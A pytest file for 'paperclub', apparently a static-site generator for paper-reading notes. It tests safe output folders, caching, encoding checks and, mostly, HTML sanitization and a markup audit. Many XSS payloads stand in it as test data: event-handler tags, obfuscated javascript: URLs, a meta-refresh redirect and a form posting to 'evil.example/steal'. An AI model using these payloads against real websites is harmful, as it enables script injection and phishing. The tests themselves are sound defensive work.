"""A generator that never loses a file, never ships a script and never serves a stale result: each row
of the safe-generator issue, reproduced (most without running a notebook)."""
from __future__ import annotations

import ast
import datetime as dt
import json
import socket
from pathlib import Path

import pytest
import yaml

from paperclub import build as build_mod
from paperclub.audit import audit_site, page_problems, parse_html
from paperclub.check import check_project
from paperclub.cli import main, scaffold
from paperclub.errors import PaperclubError
from paperclub.execute import Job, cache_key, clean_leftovers, plan
from paperclub.layout import Project
from paperclub.papers import parse_paper
from paperclub.render import _text_outputs_as_html

TODAY = dt.date(2026, 11, 23)


# 1. --site never replaces a folder paperclub did not make --------------------------------------------

@pytest.mark.parametrize("target", ["docs", "papers", ".", "..", "notebooks/sub"])
def test_site_inside_or_around_the_project_is_refused(project_factory, target, capsys):
    root = project_factory(["one"])
    before = sorted(p.name for p in (root / "docs").iterdir())
    assert main(["--root", str(root), "build", "--site", str(root / target)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: --site") and err.count("\n") == 1, err
    assert sorted(p.name for p in (root / "docs").iterdir()) == before


def test_site_that_paperclub_did_not_make_is_refused(project_factory, tmp_path):
    root = project_factory(["one"])
    mine = tmp_path / "my-notes"
    mine.mkdir()
    (mine / "notes.md").write_text("uncommitted notes")
    with pytest.raises(PaperclubError, match=r"not empty and was not made by paperclub"):
        build_mod.check_target(Project(root), mine)
    assert (mine / "notes.md").read_text() == "uncommitted notes"
    build_mod.check_target(Project(root), tmp_path / "new-folder")      # new: fine
    (tmp_path / "empty").mkdir()
    build_mod.check_target(Project(root), tmp_path / "empty")           # empty: fine
    (tmp_path / "old-site").mkdir()
    (tmp_path / "old-site" / build_mod.MARKER).write_text("x")
    build_mod.check_target(Project(root), tmp_path / "old-site")        # ours: fine


# 2. escaping and the audit of foreign markup -------------------------------------------------------

def test_audit_flags_markup_the_generator_did_not_write(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text('<html><body><svg onload="alert(2)"></svg>'
                                     '<a href="javascript:alert(1)">x</a><script>alert(3)</script>'
                                     '<iframe src="x.html"></iframe></body></html>')
    (site / "x.html").write_text("<html></html>")
    problems = "\n".join(audit_site(site))
    for what in ("inline event handler <svg onload=…>", "javascript: URL in <a href>",
                 "an inline <script> ('alert(3)'", "<iframe> element"):
        assert what in problems, problems


def test_links_must_be_http_or_relative(tmp_path):
    paper = tmp_path / "papers" / "x.md"
    paper.parent.mkdir()
    paper.write_text('---\ntitle: T\nauthors: [A]\nyear: 2024\nvenue: V\nlinks: {paper: "javascript:alert(1)"}\n'
                     'tldr: t\n---\n')
    with pytest.raises(PaperclubError, match=r"papers/x.md: field 'links.paper': .*http\(s\) URL or a relative link"):
        parse_paper(paper)


# 3. a chatty notebook cannot blow the page up ------------------------------------------------------

def test_long_text_output_is_capped_escaped_and_kept_out_of_search():
    import nbformat

    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("print('x' * 50_000_000)")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="<b>" + "x" * 5_000_000 + "\n")]
    nb.cells = [cell]
    _text_outputs_as_html(nb)
    html = nb.cells[0].outputs[0]["data"]["text/html"]
    assert len(html) < 6000 and "output cut on this page: 5,000,004 characters" in html
    assert "&lt;b&gt;" in html and "data-search-exclude" in html


def test_audit_enforces_the_page_budget(tmp_path):
    site = tmp_path / "site"
    (site / "search").mkdir(parents=True)
    (site / "assets/javascripts").mkdir(parents=True)
    (site / "assets/javascripts/bundle.js").write_text("//")
    (site / "index.html").write_text('<html><img src="big.png" alt="big">'
                                     '<script src="assets/javascripts/bundle.js"></script></html>')
    (site / "deck.html").write_text('<html><img src="big.png" alt="big"></html>')  # loads no search index
    (site / "big.png").write_bytes(b"\0" * 1_500_000)
    (site / "search" / "search_index.json").write_bytes(b"{}" + b" " * 700_000)
    over = [p for p in audit_site(site) if "over the 2 MB page budget" in p]
    assert len(over) == 1 and over[0].startswith("index.html: loads 2.10 MB")


# 4. encoding: every file named, every other problem still reported ---------------------------------

def test_non_utf8_files_are_named_and_do_not_hide_other_problems(project_factory):
    root = project_factory(["good", "bad", "worse"])
    (root / "papers/bad.md").write_bytes((root / "papers/bad.md").read_bytes() + b"\nbad byte \xff here\n")
    (root / "notebooks/worse.py").write_bytes(b"# %%\nx = '\xe9'\n")
    deck = root / "slides/good.md"
    deck.write_bytes(deck.read_bytes() + b"\n\xfe\n")
    report = check_project(Project(root))
    text = "\n".join(report.problems)
    assert "papers/bad.md: not UTF-8 text (byte 0xff at line" in text
    assert "notebooks/worse.py: not UTF-8 text (byte 0xe9 at line 2)" in text
    assert "slides/good.md: not UTF-8 text (byte 0xfe" in text


def test_a_bom_is_not_an_error(project_factory):
    root = project_factory(["bom"])
    p = root / "papers/bom.md"
    p.write_bytes(b"\xef\xbb\xbf" + p.read_bytes())
    assert parse_paper(p).slug == "bom"


# 5. a complete cache key, and --force --------------------------------------------------------------

def test_cache_key_covers_data_files_and_the_runtime(project_factory, monkeypatch, tmp_path):
    root = project_factory(["dat"])
    nb, impls = root / "notebooks/dat.py", root / "minimal_impls"
    data = root / "data" / "dat" / "points.csv"
    data.parent.mkdir(parents=True)
    data.write_text("1,2\n")
    k0 = cache_key(nb, impls, {"v": "1"}, [data])
    data.write_text("1,3\n")
    assert cache_key(nb, impls, {"v": "1"}, [data]) != k0
    from paperclub import execute
    fake = tmp_path / "runtime.py"
    fake.write_text("# another runtime\n")
    k1 = cache_key(nb, impls, {"v": "1"}, [data])
    monkeypatch.setattr(execute, "RUNTIME", execute.RUNTIME[:-1] + (fake,))
    assert cache_key(nb, impls, {"v": "1"}, [data]) != k1


def test_force_reruns_a_cached_notebook(project_factory):
    root = project_factory(["frc"])
    nb, impls, cache = root / "notebooks/frc.py", root / "minimal_impls", root / "build/cache"
    key = cache_key(nb, impls, {"v": "1"})
    (cache / "frc").mkdir(parents=True)
    (cache / "frc" / "meta.json").write_text(json.dumps({"key": key, "seconds": 1.0}))
    (cache / "frc" / "notebook.ipynb").write_text("{}")
    (cache / "frc" / "metrics.json").write_text("{}")
    cached, todo = plan({"frc": nb}, impls, cache, {"v": "1"})
    assert cached["frc"].status == "cached" and not todo
    (cache / "frc" / "metrics.json").unlink()      # a damaged entry runs again, never a false "not recorded"
    assert plan({"frc": nb}, impls, cache, {"v": "1"})[1] == [Job("frc", nb, key)]
    (cache / "frc" / "metrics.json").write_text("[not json")
    assert plan({"frc": nb}, impls, cache, {"v": "1"})[1] == [Job("frc", nb, key)]
    (cache / "frc" / "metrics.json").write_text("{}")
    for force in ({"frc"}, True):
        cached, todo = plan({"frc": nb}, impls, cache, {"v": "1"}, force=force)
        assert todo == [Job("frc", nb, key)] and not cached


# 6. claims on metrics that are never recorded ------------------------------------------------------

def test_claim_or_reference_to_an_unrecorded_metric_fails_check(project_factory):
    root = project_factory(["typo"])
    p = root / "papers/typo.md"
    p.write_text(p.read_text().replace("metric: slope_error", "metric: slope_eror")
                 .replace("{{ slope_error:.3f }}", "{{ slope_err:.3f }}"))
    text = "\n".join(check_project(Project(root)).problems)
    assert "papers/typo.md: field 'claims[0].metric': 'slope_eror' is never recorded by notebooks/typo.py" in text
    assert "papers/typo.md:" in text and "{{ slope_err }} names a metric the notebook never records" in text
    line = int(text.split("{{ slope_err }}")[0].rsplit("papers/typo.md:", 1)[1].split(":")[0])
    assert "slope_err:.3f" in p.read_text().splitlines()[line - 1]   # the line number points at it


# 7. `new` writes valid files for any title; slugs are Python module names ---------------------------

@pytest.mark.parametrize("slug", ["3d-gaussians", "lambda", "class", "Bad_Slug", "a--b"])
def test_new_refuses_slugs_that_are_not_module_names(project_factory, slug, capsys):
    root = project_factory(["ok"])
    assert main(["--root", str(root), "new", "T", "--slug", slug]) == 1
    assert capsys.readouterr().err.startswith("error: --slug")


def test_new_writes_valid_files_for_any_title(project_factory):
    root = project_factory(["ok"])
    title = 'Back\\slash "quotes" \'single\' <b>tags</b> {braces} and """triple"""'
    files = scaffold(Project(root), title, "weird-title", 2026)
    assert parse_paper(root / "papers/weird-title.md").title == title
    for f in files:
        if f.suffix == ".py":
            ast.parse(f.read_text(), filename=str(f))
    assert check_project(Project(root)).problems == []


# 8. a stronger check ---------------------------------------------------------------------------------

def test_check_parses_code_and_decks_and_validates_fmt(project_factory):
    root = project_factory(["syn", "deck", "fmt"])
    (root / "minimal_impls/syn.py").write_text("def broken(:\n")
    (root / "notebooks/deck.py").write_text((root / "notebooks/deck.py").read_text() + "\nif True\n")
    (root / "slides/syn.md").write_text("\n---\n\n")
    p = root / "papers/fmt.md"
    p.write_text(p.read_text().replace('fmt: ".3f"', 'fmt: ".3q"'))
    text = "\n".join(check_project(Project(root)).problems)
    assert "minimal_impls/syn.py:1: SyntaxError" in text
    assert "notebooks/deck.py:" in text and "SyntaxError" in text
    assert "slides/syn.md: no slides" in text
    assert "papers/fmt.md: field 'claims[0].fmt'" in text and "not a Python format spec" in text


# 9 and 10. one build at a time, a crash-safe swap, no leftovers, one-line errors ----------------------

def test_a_second_build_is_refused_while_one_runs(project_factory, capsys):
    root = project_factory(["lock"])
    with build_mod.project_lock(Project(root)):
        assert main(["--root", str(root), "build"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: another paperclub build is running in this project (pid ") and err.count("\n") == 1


def test_a_swap_interrupted_between_its_renames_is_repaired(tmp_path):
    site = tmp_path / "site"
    old = tmp_path / ".site.old"
    old.mkdir()
    (old / build_mod.MARKER).write_text("x")
    (old / "index.html").write_text("the last good site")
    build_mod.recover_swap(site)              # crash after 'site -> .site.old', before 'new -> site'
    assert (site / "index.html").read_text() == "the last good site" and not old.exists()
    new = tmp_path / ".site.new-abc"
    new.mkdir()
    (new / "index.html").write_text("new")
    build_mod.swap_in(new, site)
    assert (site / "index.html").read_text() == "new" and (site / build_mod.MARKER).exists()
    assert not old.exists() and not (site / "site").exists()


def test_leftovers_of_a_killed_build_are_removed(tmp_path):
    from paperclub.guard import CACHE_MARKER

    cache = tmp_path / "cache"
    (cache / ".alpha-x1y2ab_9").mkdir(parents=True)
    (cache / ".alpha.old").mkdir()
    (cache / "alpha").mkdir()
    (cache / ".git").mkdir()                       # a dot-folder paperclub did not name: kept
    (cache / ".alpha-short").mkdir()               # no random 8-character suffix: kept
    assert clean_leftovers(cache) == []            # not a marked cache: nothing is removed at all
    (cache / CACHE_MARKER).write_text("x")
    removed = clean_leftovers(cache)
    assert sorted(p.name for p in removed) == [".alpha-x1y2ab_9", ".alpha.old"]
    assert sorted(p.name for p in cache.iterdir()) == [".alpha-short", ".git", CACHE_MARKER, "alpha"]


def test_ctrl_c_and_busy_port_and_missing_chromium_are_one_line(project_factory, monkeypatch, capsys):
    root = project_factory(["sig"])

    def interrupted(*a, **k):
        raise KeyboardInterrupt
    monkeypatch.setattr(build_mod, "build", interrupted)
    assert main(["--root", str(root), "build"]) == 130
    assert capsys.readouterr().err.strip() == "paperclub: interrupted; the last complete site is unchanged"

    (root / "site").mkdir()
    (root / "site/index.html").write_text("x")
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        assert main(["--root", str(root), "serve", "--port", str(port)]) == 1
    assert capsys.readouterr().err.strip() == (f"error: --port {port}: already in use; stop the other server or "
                                               f"pass --port {port + 1}")

    import paperclub.slides as slides
    monkeypatch.setattr(slides, "find_chromium", lambda: None)
    assert main(["--root", str(root), "slides-pdf"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: slides-pdf: no Chromium found") and err.count("\n") == 1


# 11. a paper that would silently disappear, a key that would silently win ----------------------------

def test_uppercase_extension_and_duplicate_keys_are_reported(project_factory):
    root = project_factory(["dup"])
    (root / "papers/dup.md").rename(root / "papers/dup.MD")
    scaffold(Project(root), "Other", "other", 2026)
    p = root / "papers/other.md"
    p.write_text(p.read_text().replace("year: 2026", "year: 2026\nyear: 2025"))
    text = "\n".join(check_project(Project(root)).problems)
    assert "papers/dup.MD: ignored: paper files must end in '.md'" in text
    assert "papers/other.md: front matter is not valid YAML at line" in text and "duplicate key 'year'" in text


@pytest.mark.slow
def test_hostile_front_matter_never_reaches_any_output_as_markup(project_factory):
    """Payloads in every field: the build passes its audit and no output file carries raw markup."""
    root = project_factory(["evil"])
    payload = '<svg onload=alert(2)>'
    p = root / "papers/evil.md"
    meta, body = p.read_text().split("\n---\n", 1)
    meta = meta.replace('title: "Paper evil"', f'title: "Evil {payload} n<k and k>2"')
    meta = meta.replace('authors: ["First Author", "Second Author"]', f'authors: ["A {payload}"]')
    meta = meta.replace('tldr: "One sentence a newcomer understands."', f'tldr: "T {payload}"')
    meta = meta.replace("session: {date: null}", f'session: {{date: 2026-12-01, presenter: "P {payload}", '
                                                  f'room: "R {payload}"}}')
    meta = meta.replace('text: "Least squares recovers the slope of a noisy line"', f'text: "C {payload}"')
    meta = meta.replace('control_label: "predict a constant"', f'control_label: "L {payload}"')
    meta = meta.replace("tags: [draft]", 'tags: ["x<script>"]').replace('venue: "Venue"', f'venue: "V {payload}"')
    # round two: Markdown syntax in text (attribute lists), a bibtex field closing its fence, a link with a
    # leading control character refused (so a safe one here), raw HTML in the notes
    meta = meta.replace(f'tldr: "T {payload}"', f'tldr: "T {payload} *{{json}}*{{ #__config }} [x](javascript:y)"')
    meta = meta.replace('venue: "V', 'venue: "V x{: #__config .md-overlay }')
    meta += '\nbibtex: "@misc{x,\\n```\\n<img src=x onerror=alert(3)>\\n}"'
    body = body.replace("## Key ideas", "## Key ideas\n\n<script>__md_scope=new URL('.',location);alert(4)</script>\n"
                        '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'
                        '<img src="https://evil.example/x.png" alt="x"> *x*{ #__config }\n', 1)
    p.write_text(meta + "\n---\n" + body)
    yaml.safe_load(meta.split("---\n", 1)[1])
    report = build_mod.build(Project(root), root / "site", root / "build/cache", today=TODAY, log=lambda _: None)
    assert report.site is not None
    scanned = set()
    for f in (root / "site").rglob("*"):
        if f.suffix in (".html", ".ics", ".json", ".xml", ".ipynb", ".md", ".py"):
            raw = f.read_text(errors="replace")
            scanned.add(f.suffix)
            for bad in ("<svg onload", "x<script>", "<img src=x onerror", "alert(4)</script>",
                        '<meta http-equiv="refresh"', "https://evil.example/x.png"):
                assert bad not in raw, (f, bad)
            if f.suffix in (".html", ".ipynb"):        # rendered as Markdown or HTML (a calendar shows text)
                for bad in ("{ #__config }", "{: #__config", "](javascript:"):
                    assert bad not in raw, (f, bad)
        if f.suffix == ".html":
            info = parse_html(f.read_text())
            assert page_problems(info) == [], f
    assert {".html", ".ics", ".json", ".ipynb"} <= scanned
    home = (root / "site/index.html").read_text()
    assert "n&lt;k and k&gt;2" in home   # careless text keeps its words
    page = (root / "site/papers/evil/index.html").read_text()
    assert "&lt;script&gt;__md_scope=new URL" in page      # the notes' script is shown as text, not dropped


def test_handout_names_equations_and_a_figure_that_exist(project_factory):
    root = project_factory(["hand"])
    p = root / "papers/hand.md"
    p.write_text(p.read_text().replace("status: draft", "status: draft\nhandout: {equations: ['1', '9'], figure: nope}"))
    text = "\n".join(check_project(Project(root)).problems)
    assert "papers/hand.md: field 'handout.equations[1]': no equation \\tag{9} in the notes (tags: 1)" in text
    assert "papers/hand.md: field 'handout.figure': 'nope' is never saved by notebooks/hand.py" in text
    assert "equations[0]" not in text


def test_search_index_text_cannot_carry_markup():
    from paperclub.audit import safe_index_text

    assert safe_index_text("<p>Evil <svg onload=alert(2)> n<k and k>2 <code>x</code></p>") == \
        "<p>Evil &lt;svg onload=alert(2)&gt; n&lt;k and k&gt;2 <code>x</code></p>"
    assert safe_index_text('<p class="x">a</p>') == '&lt;p class="x"&gt;a</p>'


# ===================================================================================================
# Round two (issue 28): the classes of bug, not the rows
# ===================================================================================================

def _fake_home(base: Path) -> Path:
    home = base / "home"
    for rel, text in ((".ssh/id_ed25519", "key"), (".gnupg/pubring.kbx", "ring"), (".config/app.toml", "c"),
                      (".local/share/x", "x"), ("one/notes.md", "mine")):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    return home


def _tree(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): (p.read_bytes() if p.is_file() else b"/")
            for p in sorted(folder.rglob("*"))}


def test_row1_no_flag_value_deletes_what_the_user_owns(project_factory, tmp_path, monkeypatch, capsys):
    """--site and --cache at a home folder with hidden folders, at the project root, through a symlink and
    as relative paths: every one is refused in one line before anything runs, and every file is still there."""
    root = project_factory(["one"])
    (root / ".git").mkdir()
    (root / ".git/HEAD").write_text("ref: refs/heads/main")
    (root / ".github").mkdir()
    (root / ".github/ci.yml").write_text("on: push")
    home = _fake_home(tmp_path)
    (tmp_path / "webroot").mkdir()
    (tmp_path / "webroot/index.html").write_text("the live site")
    (tmp_path / "link-home").symlink_to(home, target_is_directory=True)
    (tmp_path / "link-web").symlink_to(tmp_path / "webroot", target_is_directory=True)
    before_home, before_root, before_web = _tree(home), _tree(root), _tree(tmp_path / "webroot")
    ran = []
    monkeypatch.setattr(build_mod, "build", lambda *a, **k: ran.append(a))
    cases = [("--cache", str(home)), ("--site", str(home)), ("--cache", str(root)), ("--site", str(root)),
             ("--cache", "."), ("--cache", str(tmp_path / "link-home")), ("--site", str(tmp_path / "link-web")),
             ("--cache", str(root / ".git")), ("--site", str(root / ".github")), ("--cache", str(root / "papers"))]
    monkeypatch.chdir(root)
    for flag, value in cases:
        assert main(["--root", str(root), "build", flag, value]) == 1, (flag, value)
        err = capsys.readouterr().err
        assert err.startswith(f"error: {flag} {value}") and err.count("\n") == 1, err
    monkeypatch.chdir(home)
    for flag, value in (("--cache", "."), ("--site", "."), ("--cache", ".ssh"), ("--site", "../home")):
        assert main(["--root", str(root), "build", flag, value]) == 1, (flag, value)
        assert capsys.readouterr().err.startswith(f"error: {flag} {value} ({home}")
    assert not ran
    assert _tree(home) == before_home and _tree(root) == before_root and _tree(tmp_path / "webroot") == before_web
    # the leftover cleaner, called on such a folder directly, removes nothing either
    assert clean_leftovers(home) == [] and clean_leftovers(root) == [] and _tree(home) == before_home


def test_row1_relative_site_and_cache_resolve_against_the_current_folder(project_factory, tmp_path, monkeypatch):
    root = project_factory(["one"])
    work = tmp_path / "elsewhere"
    work.mkdir()
    seen = {}
    monkeypatch.setattr(build_mod, "build", lambda project, site, cache, **k: seen.update(site=site, cache=cache)
                        or build_mod.BuildReport())
    monkeypatch.chdir(work)
    assert main(["--root", str(root), "build", "--site", "out/site", "--cache", "pc-cache"]) == 0
    assert seen == {"site": work / "out/site", "cache": work / "pc-cache"}
    from paperclub.guard import CACHE_MARKER
    assert (work / "pc-cache" / CACHE_MARKER).exists()           # claimed: a later build may clean inside it
    assert main(["--root", str(root), "build", "--site", "out/site", "--cache", "pc-cache"]) == 0  # its own


def test_row1_site_and_cache_may_not_overlap(project_factory, tmp_path, capsys):
    root = project_factory(["one"])
    assert main(["--root", str(root), "build", "--site", str(tmp_path / "x"), "--cache", str(tmp_path / "x/c")]) == 1
    assert "overlaps" in capsys.readouterr().err


def _site_markdown(md: str) -> str:
    """Markdown converted with the site's own extensions (mkdocs.yml), as the site engine converts a page."""
    import markdown

    cfg = yaml.safe_load((Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text())
    names, configs = [], {}
    for ext in cfg["markdown_extensions"]:
        name, conf = (next(iter(ext.items())) if isinstance(ext, dict) else (ext, {}))
        names.append(name)
        configs[name] = conf or {}
    return markdown.markdown(md, extensions=names, extension_configs=configs)


def _front_matter(path: Path, **fields: str) -> None:
    """Replace or add top-level front-matter fields of a scaffolded paper (values given as YAML text)."""
    meta, body = path.read_text().split("\n---\n", 1)
    lines = meta.split("\n")
    for key, value in fields.items():
        lines = [ln for ln in lines if not ln.startswith(f"{key}:")] + [f"{key}: {value}"]
    path.write_text("\n".join(lines) + "\n---\n" + body)


@pytest.mark.parametrize("url", ["\\x01javascript:alert(1)", " javascript:alert(1)", "java\\tscript:alert(1)",
                                 "java\\nscript:alert(1)", "JavaScript:alert(1)", "&#106;avascript:alert(1)",
                                 "javascript&#58;alert(1)", "https://x.org/a) {: onclick=alert(1) }",
                                 "data:text/html,<script>", "//evil.example/x", "\\\\u2028javascript:x"])
def test_row2_links_are_read_as_a_browser_reads_them(tmp_path, url):
    paper = tmp_path / "papers" / "x.md"
    paper.parent.mkdir()
    paper.write_text('---\ntitle: T\nauthors: [A]\nyear: 2024\nvenue: V\nlinks: {paper: "' + url + '"}\ntldr: t\n---\n')
    with pytest.raises(PaperclubError) as err:
        parse_paper(paper)
    assert str(err.value).startswith("papers/x.md: field 'links.paper': ") and "\n" not in str(err.value)


def test_row2_good_links_stay_and_cannot_leave_their_markdown_link(tmp_path):
    paper = tmp_path / "papers" / "x.md"
    paper.parent.mkdir()
    paper.write_text('---\ntitle: T\nauthors: [A]\nyear: 2024\nvenue: V\nlinks: {paper: "https://en.wikipedia.org/'
                     'wiki/Go_(game)?a=1&b=2", code: "../code/x.py", project: "HTTPS://example.org/{x}[y]"}\n'
                     'tldr: t\n---\n')
    links = parse_paper(paper).links
    assert links.paper == "https://en.wikipedia.org/wiki/Go_%28game%29?a=1&b=2" and links.code == "../code/x.py"
    assert links.project == "HTTPS://example.org/%7Bx%7D%5By%5D"
    html = _site_markdown(f"[Paper]({links.paper}){{: .x }}")
    assert 'href="https://en.wikipedia.org/wiki/Go_%28game%29?a=1&amp;b=2"' in html
    # a URL that would close its link and open an attribute list (a full-page overlay) stays one URL
    paper.write_text(paper.read_text().replace("../code/x.py", "https://x.org/a){:.md-overlay}(b"))
    overlay = parse_paper(paper).links.code
    assert overlay == "https://x.org/a%29%7B:.md-overlay%7D%28b"
    html = _site_markdown(f"[Code]({overlay})")
    assert "class=" not in html and html.count("<a ") == 1


HOSTILE_TEXT = ["*{json}*{ #__config }", "x{: #__config .md-overlay }", "[click](javascript:alert(1))",
                "`code` {: onclick=alert(1) }", "<svg onload=alert(2)>", "line\n\n{: #__config }",
                "&#60;script&#62;", "\\{ #__config \\}", "$x^{2}$ {: #__config }"]


@pytest.mark.parametrize("payload", HOSTILE_TEXT)
def test_row3_front_matter_text_carries_no_markup_or_markdown_syntax(payload):
    from paperclub import fragments as frag

    from paperclub.papers import check_heading_text

    try:
        heading = [f"# {frag.text(check_heading_text(payload))}"]
    except ValueError as err:       # a title whose heading id would be one of the theme's: refused
        assert "may not start with '_'" in str(err) and payload.lstrip("\\{ #").startswith("__")
        heading = []
    for md in (frag.text(payload), *heading, f"- [{frag.text(payload)}](x.md)",
               f"!!! abstract \"TL;DR\"\n    {frag.text(payload)}",
               f"| a |\n| --- |\n| {frag.cell(payload)} |",
               f'<div markdown>\n\n<span class="pc-tag">{frag.attr(payload)}</span>\n\n</div>'):
        html = _site_markdown(md)
        info = parse_html(html)
        assert page_problems(info) == [] and not any(i.startswith("__") for i in info.ids), (payload, html)
        for bad in ("<svg", "<script", 'href="javascript', 'class="md-overlay'):
            assert bad not in html, (payload, md, html)


def test_row3_math_and_emphasis_still_work_in_front_matter_text():
    from paperclub import fragments as frag

    html = _site_markdown(frag.text("The $\\beta$-VAE: *disentangled* $x^{2}$, n<k"))
    assert "<em>disentangled</em>" in html and "\\(x^{2}\\)" in html and "\\(\\beta\\)" in html and "n&lt;k" in html


def test_row4_a_code_fence_is_longer_than_any_backtick_run_inside(project_factory):
    """A bibtex field with a line of three backticks cannot close its fence: the page shows it as code."""
    from paperclub import render
    from paperclub.execute import NotebookResult

    root = project_factory(["cite"])
    p = root / "papers/cite.md"
    _front_matter(p, bibtex=json.dumps("@misc{x,\n```\n<img src=x onerror=alert(1)>\n````` more\n}"),
                  title=json.dumps("T *{json}*{ #__config }"))
    paper = parse_paper(p)
    result = NotebookResult("cite", "cached", 1.0, None, metrics={"slope_error": 0.01, "naive_slope_error": 1.0})
    page = render.paper_page(paper, result, Project(root), {})
    html = _site_markdown(page.markdown.split("\n---\n", 1)[1])
    cite = html.split('id="cite"')[1]
    assert "<img" not in cite and "&lt;img" in cite and "onerror" in cite and "````` more" in cite
    assert "</code></pre>" in cite.split("more")[1]        # the whole field stays inside the one code block
    assert 'id="__config"' not in html


def test_row4_and_ipynb_the_downloadable_notebook_carries_no_raw_title(project_factory):
    """The raw title used to land in the notebook's first Markdown cell (nbconvert to HTML runs it)."""
    from paperclub import standalone
    from paperclub.execute import NotebookResult

    root = project_factory(["nb"])
    p = root / "papers/nb.md"
    _front_matter(p, title=json.dumps("Evil <img src=x onerror=alert(1)> *{x}*{ #__config } [l](javascript:x)"))
    blob = standalone.page_notebook(Project(root), parse_paper(p), NotebookResult("nb", "cached", 1.0, None))
    intro = json.loads(blob)["cells"][0]["source"]
    intro = "".join(intro) if isinstance(intro, list) else intro
    assert "<img" not in intro and "{ #__config }" not in intro and "[l](" not in intro
    assert "&lt;img src=x onerror=alert(1)&gt;" in intro


def _theme_body(name: str, base: str = "..") -> str:
    import re

    import material
    text = (Path(material.__file__).parent / "templates/partials/javascripts" / name).read_text()
    body = re.search(r"<script>(.*?)</script>", text, re.S).group(1)
    return re.sub(r"\{\{.*?\}\}", base, body)


def test_row5_only_the_theme_s_exact_inline_scripts_pass(tmp_path):
    base = _theme_body("base.html")
    good = tmp_path / "good"
    good.mkdir()
    (good / "index.html").write_text(f"<html><body><script>{base}</script><script>{_theme_body('palette.html')}"
                                     f"</script></body></html>")
    assert audit_site(good) == []
    for evil in (base + ";alert(1)", base.replace("..", '",alert(1),"'), "__md_scope=1;alert(1)",
                 "var palette=__md_get('x');alert(1)", " " + base):
        site = tmp_path / f"s{abs(hash(evil))}"
        site.mkdir()
        (site / "index.html").write_text(f"<html><body><script>{evil}</script></body></html>")
        problems = audit_site(site)
        assert len(problems) == 1 and "an inline <script>" in problems[0], (evil, problems)


AUDIT_CASES = {
    '<a href="java&#9;script:alert(1)">x</a>': "javascript: URL in <a href>",
    '<a href="java&#x0A;script:alert(1)">x</a>': "javascript: URL in <a href>",
    '<a href="&#1;javascript:alert(1)">x</a>': "javascript: URL in <a href>",
    '<a href=" JAVASCRIPT:alert(1)">x</a>': "javascript: URL in <a href>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': "javascript: URL in <a xlink:href>",
    '<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>':
        "SVG <animate> that changes a URL",
    '<svg><set attributeName="xlink:href" to="https://evil.example/"/></svg>': "SVG <set> that changes a URL",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "<meta http-equiv=refresh>",
    '<form action="https://evil.example/steal"><input name=q></form>': "sends a form to an outside URL",
    '<button formaction="https://evil.example/">x</button>': "sends a form to an outside URL",
    '<svg><image xlink:href="https://evil.example/x.png"/></svg>': "loads an outside URL https://evil.example/x.png",
    '<svg><use href="https://evil.example/s.svg#a"/></svg>': "loads an outside URL",
    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>': "loads an outside URL",
    '<div style="background:\\75 rl(https://evil.example/a.png)">x</div>': "loads an outside URL https://evil.example",
    '<div style="background-image:image-set(\'https://evil.example/a.png\' 1x)">x</div>': "loads an outside URL",
    '<style>@import "https://evil.example/a.css";</style>': "loads an outside URL",
    '<div style="background:url(\'javascript:alert(1)\')">x</div>': "javascript: URL in CSS",
    '<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="">': "loads an outside URL https://evil.example/b.png",
    '<span id="__config">{"search": "https://evil.example/w.js"}</span>': 'id="__config" besides the theme',
    '<object data="x.svg"></object>': "<object> element",
    '<video poster="https://evil.example/p.png"></video>': "loads an outside URL",
}


@pytest.mark.parametrize("markup", list(AUDIT_CASES))
def test_audit_reads_pages_as_a_browser_does(tmp_path, markup):
    (tmp_path / "index.html").write_text(f"<!doctype html><html><head></head><body>{markup}</body></html>")
    (tmp_path / "a.png").write_bytes(b"png")
    (tmp_path / "x.svg").write_text("<svg/>")
    problems = "\n".join(audit_site(tmp_path))
    assert AUDIT_CASES[markup] in problems, problems


def test_audit_checks_the_theme_s_configuration(tmp_path):
    (tmp_path / "w.js").write_text("")
    ok = '<script id="__config" type="application/json">{"base": ".", "search": "w.js"}</script>'
    (tmp_path / "index.html").write_text(f"<html><body>{ok}</body></html>")
    assert audit_site(tmp_path) == []
    for body in (ok.replace("w.js", "https://evil.example/w.js"), '<p id="__config">{}</p>' + ok,
                 ok + '<script id="__config" type="application/json">{}</script>'):
        (tmp_path / "index.html").write_text(f"<html><body>{body}</body></html>")
        assert any("__config" in p or "search worker" in p for p in audit_site(tmp_path)), body


def test_notes_raw_html_goes_through_the_allowlist_and_nothing_is_lost():
    from paperclub.sanitize import notes_markdown

    src = ('Intro <small>tiny</small>, n<k, <script>__md_scope=1;alert(1)</script>\n'
           '<div class="pc-x" markdown onclick="x()">\n\n<a href="java&#9;script:x">l</a> '
           '<img src="https://evil.example/x.png" alt="a"> <img src="f.png" alt="b">\n\n</div>\n'
           '<!-- a comment -->\n`<script>code</script>` and $a<b c>d$\n\n```html\n<script>fenced</script>\n```\n'
           '<span id="__config">x</span> *x*{ #__config } [l](u){: onclick="y" } ## Head {: .cls #ok }\n'
           '<div\nonmouseover="x">multi</div> <iframe src="x.html"></iframe> <https://arxiv.org/abs/1> <a@b.org>')
    out = notes_markdown(src)
    assert "&lt;script&gt;__md_scope=1;alert(1)&lt;/script&gt;" in out          # shown as text, not lost
    assert '<div class="pc-x" markdown="1">' in out and "onclick" not in out.replace('&#123;: onclick="y" &#125;', "")
    assert "<a>l</a>" in out and '<img alt="a">' in out and '<img src="f.png" alt="b">' in out
    assert "`<script>code</script>` and $a<b c>d$" in out and "```html\n<script>fenced</script>\n```" in out
    assert "<span>x</span>" in out and "*x*&#123; #__config &#125;" in out and "&#123;: onclick" in out
